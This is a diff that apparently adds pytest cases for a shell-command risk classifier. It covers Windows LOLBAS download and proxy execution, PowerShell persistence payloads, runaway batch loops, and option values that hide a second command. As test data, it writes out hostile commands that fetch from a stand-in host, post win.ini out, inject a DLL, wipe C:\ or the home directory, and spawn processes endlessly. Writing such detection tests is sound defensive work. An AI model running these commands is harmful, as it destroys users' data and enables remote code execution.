@@ -282,3 +282,75 @@ UPLOAD_SPELLINGS = [
 def test_upload_spellings(command: str, expected: RiskLevel) -> None:
     got = assess(command)
     assert got.level == expected, (command, got.findings)
+
+
+LOLBAS_MORE = [
+    ("hh.exe http://x.example/payload.chm", C),
+    ("esentutl.exe /y \\\\x.example\\share\\a.exe /d C:\\a.exe /o", C),
+    ("expand \\\\x.example\\share\\a.cab C:\\a.cab", C),
+    ("certreq -Post -config http://x.example C:\\Windows\\win.ini out.txt", C),
+    ("mavinject.exe 3110 /INJECTRUNNING C:\\x.dll", C),
+    ("control.exe C:\\x.cpl", C),
+    ("scriptrunner.exe -appvscript cmd.exe /c rd /s /q C:\\", B),
+    ('winrm invoke Create wmicimv2/Win32_Process @{CommandLine="cmd /c rd /s /q C:\\"}', B),
+    ('wmic os get /format:"http://x.example/a.xsl"', C),
+    ("findstr /i error log.txt", S),
+    ("expand a.cab -F:* C:\\out", M),
+]
+
+
+@pytest.mark.parametrize("command,expected", LOLBAS_MORE)
+def test_lolbas_download_and_proxy_execution(command: str, expected: RiskLevel) -> None:
+    got = assess(command, "cmd")
+    assert got.level == expected, (command, got.findings)
+
+
+PS_PAYLOADS = [
+    (
+        "Register-ScheduledTask -TaskName x -Action (New-ScheduledTaskAction -Execute 'cmd.exe' "
+        "-Argument '/c rd /s /q C:\\') -Trigger (New-ScheduledTaskTrigger -AtStartup)",
+        B,
+    ),
+    ("New-Service -Name x -BinaryPathName 'cmd /c rd /s /q C:\\'", B),
+    ("Invoke-WmiMethod -Class Win32_Process -Name Create -ArgumentList 'cmd /c rd /s /q C:\\'", B),
+    ("([wmiclass]'win32_process').Create('cmd /c rd /s /q C:\\')", B),
+    ("Set-Alias -Name ls -Value Remove-Item", C),
+    ("Set-Alias -Name ll -Value Get-ChildItem", M),
+    ("$a = New-ScheduledTaskAction -Execute 'calc.exe'", M),
+]
+
+
+@pytest.mark.parametrize("command,expected", PS_PAYLOADS)
+def test_powershell_payloads_are_judged(command: str, expected: RiskLevel) -> None:
+    got = assess(command, "powershell")
+    assert got.level == expected, (command, got.findings)
+
+
+BATCH_LOOPS = [
+    (':s\nstart "" %~f0\ngoto s', B),
+    ("for /l %i in (0,0,1) do start cmd", B),
+    ("echo off\n:x\nstart cmd.exe\ngoto x", B),
+    ("for /l %i in (1,1,5) do start notepad", M),
+    (":retry\nstart app.exe\nif errorlevel 1 goto retry", M),
+]
+
+
+@pytest.mark.parametrize("command,expected", BATCH_LOOPS)
+def test_batch_loops_that_start_programs_forever(command: str, expected: RiskLevel) -> None:
+    got = assess(command, "cmd")
+    assert got.level == expected, (command, got.findings)
+
+
+GLUED = [
+    ("man -P'rm -rf ~' ls", B),
+    ("rsync -e'rm -rf ~' a b:", B),
+    ("tar -I'rm -rf ~' -cf x.tar .", B),
+    ("npm run build --script-shell='rm -rf ~'", B),
+    ("tar -czf x.tgz .", M),
+]
+
+
+@pytest.mark.parametrize("command,expected", GLUED)
+def test_glued_option_values_are_judged(command: str, expected: RiskLevel) -> None:
+    got = assess(command)
+    assert got.level == expected, (command, got.findings)
